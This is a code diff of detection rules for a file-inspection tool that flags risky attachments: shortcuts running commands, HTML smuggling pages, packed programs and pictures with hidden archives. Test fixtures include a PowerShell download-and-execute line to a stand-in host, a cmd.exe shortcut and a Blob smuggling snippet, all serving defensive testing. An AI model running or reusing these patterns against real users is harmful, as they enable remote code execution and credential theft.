@@ -1,10 +1,14 @@
 // Findings about small files that act: shortcuts, scripts, pages that carry files, drawings with scripts, pictures with something
 // behind them. By the flags of lib/content/inspect.
+import { extensionOf } from "#lib/content/file-endings.ts";
 import { writePng } from "#lib/content/inspect/examples/image.ts";
 import { windowsProgram } from "#lib/content/inspect/examples/programs.ts";
 import { writeShortcut } from "#lib/content/inspect/examples/shortcut.ts";
 import { writeZip } from "#lib/content/inspect/examples/write-zip.ts";
+import type { Part } from "#lib/content/types.ts";
+import { type Say, say } from "#lib/text/say.ts";
 import type { Rule } from "../rule.ts";
+import { programWords } from "./file-types.ts";
 import { type ExampleFile, type FlagRow, flagRule } from "./flag-rule.ts";
 
 const data = Buffer.alloc(3_000, "PK\x03\x04abcdefgh", "latin1").toString("base64");
@@ -24,7 +28,7 @@ const rows: readonly FlagRow[] = [
     title: "A shortcut that runs a command",
     innocent: null,
     advice: "Do not open it.",
-    says: (files, details) => `${files} looks like a document and starts ${details}.`,
+    says: (files, details) => say`${files} looks like a document and starts ${details}.`,
     bad: () => [["a.lnk", writeShortcut("C:\\Windows\\System32\\cmd.exe", "/c calc")]],
     good: () => [["a.lnk", writeShortcut("C:\\Program Files\\Editor\\editor.exe")]],
   },
@@ -35,7 +39,7 @@ const rows: readonly FlagRow[] = [
     title: "A page that hands over a file hidden in it",
     innocent: "Some services for encrypted mail work so.",
     advice: "Do not open the page, and never the file that it offers.",
-    says: (files, details) => `${files} builds a file from its own text and saves it: ${details}.`,
+    says: (files, details) => say`${files} builds a file from its own text and saves it: ${details}.`,
     bad: () => page(`var b=new Blob([atob("${data}")]);a.href=URL.createObjectURL(b);a.download="order.zip"`),
     good: plainPage,
   },
@@ -46,7 +50,7 @@ const rows: readonly FlagRow[] = [
     title: "A page that writes itself from text nobody can read",
     innocent: "Some services for encrypted mail and some old page builders work so.",
     advice: "Never type a password into it.",
-    says: (files, details) => `${files} decodes a long text and shows the result: ${details}.`,
+    says: (files, details) => say`${files} decodes a long text and shows the result: ${details}.`,
     bad: () => page(`document.write(unescape("${"%3c".repeat(900)}"))`),
     good: plainPage,
   },
@@ -57,7 +61,7 @@ const rows: readonly FlagRow[] = [
     title: "A script that starts programs or loads files",
     innocent: "Administrators send each other scripts.",
     advice: "Do not start it unless you have read it.",
-    says: (files, details) => `${files} calls ${details}.`,
+    says: (files, details) => say`${files} calls ${details}.`,
     bad: () => [["a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://example.test/')"]],
     good: () => [["a.ps1", "Get-Date"]],
   },
@@ -69,7 +73,7 @@ const rows: readonly FlagRow[] = [
     title: "A shortcut that leads to a server, or carries more than itself",
     innocent: "Offices send each other links to their own shared folders.",
     advice: "Do not open it unless you know the server: it learns your user name, and may hand you a program.",
-    says: (files, details) => `${files} leads to, or carries, ${details}.`,
+    says: (files, details) => say`${files} leads to, or carries, ${details}.`,
     bad: () => [["a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.lnk\r\n"]],
     good: () => [["a.url", "[InternetShortcut]\r\nURL=https://example.com/\r\n"]],
   },
@@ -80,7 +84,7 @@ const rows: readonly FlagRow[] = [
     title: "A drawing that runs scripts",
     innocent: "Charts that can be unfolded are drawn so.",
     advice: "Look at it in the mail only; in a browser its scripts run.",
-    says: (files, details) => `${files} holds ${details}.`,
+    says: (files, details) => say`${files} holds ${details}.`,
     bad: () => svg("<script>1</script>"),
     good: () => svg("<rect/>"),
   },
@@ -92,7 +96,7 @@ const rows: readonly FlagRow[] = [
     title: "A drawing with a page or entities in it",
     innocent: "Drawing programs embed text so.",
     advice: null,
-    says: (files, details) => `${files} holds ${details}.`,
+    says: (files, details) => say`${files} holds ${details}.`,
     bad: () => svg("<foreignObject><p>Hi</p></foreignObject>"),
     good: () => svg("<rect/>"),
   },
@@ -103,7 +107,7 @@ const rows: readonly FlagRow[] = [
     title: "A picture with another file behind it",
     innocent: null,
     advice: "Look at the picture here; do not open the file.",
-    says: (files, details) => `${files} goes on behind the end of the picture: ${details}.`,
+    says: (files, details) => say`${files} goes on behind the end of the picture: ${details}.`,
     bad: () => [["a.png", Buffer.concat([writePng(4, 3), writeZip([{ name: "a.txt" }])]), "image/png"]],
     good: () => [["a.png", writePng(4, 3), "image/png"]],
   },
@@ -114,7 +118,7 @@ const rows: readonly FlagRow[] = [
     title: "A program packed by another program",
     innocent: "Small tools are packed to be smaller.",
     advice: null,
-    says: (files, details) => `${files} has sections that packers write: ${details}.`,
+    says: (files, details) => say`${files} has sections that packers write: ${details}.`,
     bad: () => [["a.exe", windowsProgram({ sections: ["UPX0", "UPX1"] })]],
     good: () => [["a.exe", windowsProgram()]],
   },
@@ -132,8 +136,9 @@ const nameContradicted: Rule = {
     const hit = parts.filter(
       ({ details }) => details?.types && details.types.disagree !== "declared" && !isPicture(details.types),
     );
-    const said = hit.slice(0, 3).map(({ details }) => details!.types!.explanation);
-    return hit.length === 0 ? null : { at: hit.map(({ path }) => ({ part: path })), detail: said.join(" ") };
+    if (hit.length === 0) return null;
+    const said = hit.slice(0, 3).map(contradiction);
+    return { at: hit.map(({ path }) => ({ part: path })), detail: said.reduce((before, one) => say`${before} ${one}`) };
   },
   get bad() {
     return flagRule({ ...rows[0]!, bad: () => [["a.jpg", writeZip([{ name: "a.txt" }])]] }).bad;
@@ -148,6 +153,17 @@ const nameContradicted: Rule = {
     }).good;
   },
 };
+
+function contradiction({ filename, details }: Part): Say {
+  const { declared, byName, byContent, disagree } = details!.types!;
+  const ending = extensionOf(filename ?? "") ?? "";
+  const content = programWords(byContent ?? "");
+  const contradicted =
+    disagree === "both"
+      ? say`The file is declared ${declared} and is called .${ending} (${byName ?? ""}), but its content is ${content}.`
+      : say`The file is called .${ending} (${byName ?? ""}), but its content is ${content}.`;
+  return say`${contradicted} The desktop opens it by its name; viewers look at the content.`;
+}
 
 /** One kind of picture under the name of another harms nobody. */
 const isPicture = ({ byName, byContent }: { byName: string | null; byContent: string | null }): boolean =>
